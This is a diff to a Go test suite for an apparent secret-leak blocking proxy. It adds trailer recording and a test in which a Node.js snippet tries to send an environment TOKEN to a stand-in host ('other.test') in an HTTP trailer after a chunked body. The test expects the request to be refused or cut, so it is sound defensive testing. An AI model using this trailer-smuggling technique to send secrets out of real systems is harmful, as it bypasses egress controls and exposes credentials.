@@ -51,6 +51,9 @@ func (rc *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	body, err := io.ReadAll(r.Body)
 	_, pass, _ := r.BasicAuth()
 	rec := recorded{host: r.Host, uri: r.RequestURI, header: r.Header.Clone(), body: body, bodyLen: len(body), basicPass: pass, complete: err == nil}
+	for k, v := range r.Trailer {
+		rec.header["Trailer-"+k] = v
+	}
 	rc.mu.Lock()
 	rc.reqs = append(rc.reqs, rec)
 	rc.mu.Unlock()
@@ -316,10 +319,25 @@ except Exception as e:
 	if err != nil || !(strings.Contains(out, "403 secret-wrong-host") || strings.HasPrefix(out, "cut")) {
 		t.Errorf("streamed leak: %v %s", err, out)
 	}
+	// A trailer, which arrives after the body: checked before the body's
+	// end is passed on.
+	out, err = s.guest("node", "-e", `
+const https = require("https");
+const req = https.request({host: "other.test", path: "/rec?m=leak-trailer", method: "POST", headers: {"Trailer": "X-Key", "Transfer-Encoding": "chunked"}}, res => {
+  console.log(res.statusCode, res.headers["x-capsem-blocked"]); res.resume();
+});
+req.on("error", e => console.log("cut", e.code));
+req.write("some body");
+req.addTrailers({"X-Key": process.env.TOKEN});
+req.end();`)
+	if err != nil || !(strings.Contains(out, "403 secret-wrong-host") || strings.HasPrefix(out, "cut")) {
+		t.Errorf("a trailer leak: %v %s", err, out)
+	}
 	for _, r := range s.rec.with("m=leak") {
 		// A streamed body reaches the upstream up to the bytes held back
-		// before the placeholder, and is then cut: never a whole request.
-		if r.complete || !strings.Contains(r.uri, "m=leak-stream") {
+		// before the placeholder (or its trailer), and is then cut: never a
+		// whole request.
+		if r.complete || !strings.Contains(r.uri, "m=leak-stream") && !strings.Contains(r.uri, "m=leak-trailer") {
 			t.Errorf("the upstream got a refused request: %s (%d bytes, complete %v)", r.uri, r.bodyLen, r.complete)
 		}
 	}
